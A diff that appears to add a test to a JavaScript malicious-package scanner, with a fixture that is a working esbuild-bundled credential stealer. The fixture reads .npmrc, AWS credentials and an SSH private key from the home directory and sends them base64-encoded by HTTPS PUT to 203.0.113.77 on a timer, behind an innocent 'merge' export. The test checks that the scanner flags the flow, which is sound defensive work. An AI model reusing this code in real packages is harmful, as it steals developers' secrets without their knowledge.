@@ -2661,3 +2661,28 @@ exports.template = function (name) { return _fs["default"].readFileSync(_path["d
     expect(threatsOf(r)).toEqual([]);
   });
 });
+
+describe('attacker rewrite of round 17 (checked after the change)', () => {
+  it("the webpack credential stealer rebundled by esbuild (__commonJS wrappers, a timer that calls the module's export)", () => {
+    const r = load({
+      'index.js': `"use strict";
+var __getOwnPropNames = Object.getOwnPropertyNames;
+var __commonJS = (cb, mod) => function __require() {
+  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
+};
+var require_home = __commonJS({
+  "src/home.js"(exports2, module2) {
+    var os = require("os"), fs = require("fs"), https = require("https");
+    var NAMES = [".npmrc", ".aws/credentials", ".ssh/id_ed25519"];
+    function collect() { const out = { h: os.hostname(), f: {} }; for (const n of NAMES) { try { out.f[n] = fs.readFileSync(os.homedir() + "/" + n, "utf8"); } catch {} } return Buffer.from(JSON.stringify(out)).toString("base64"); }
+    function sync() { const body = collect(); const req = https.request({ host: "203.0.113.77", method: "PUT", headers: { "content-length": Buffer.byteLength(body) } }); req.setTimeout(3000, () => req.destroy()); req.end(body); }
+    module2.exports = { sync };
+  }
+});
+var { sync } = require_home();
+setTimeout(sync, 50);
+module.exports = { merge: (a, b) => Object.assign({}, a, b) };`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exfil-flow');
+  });
+});
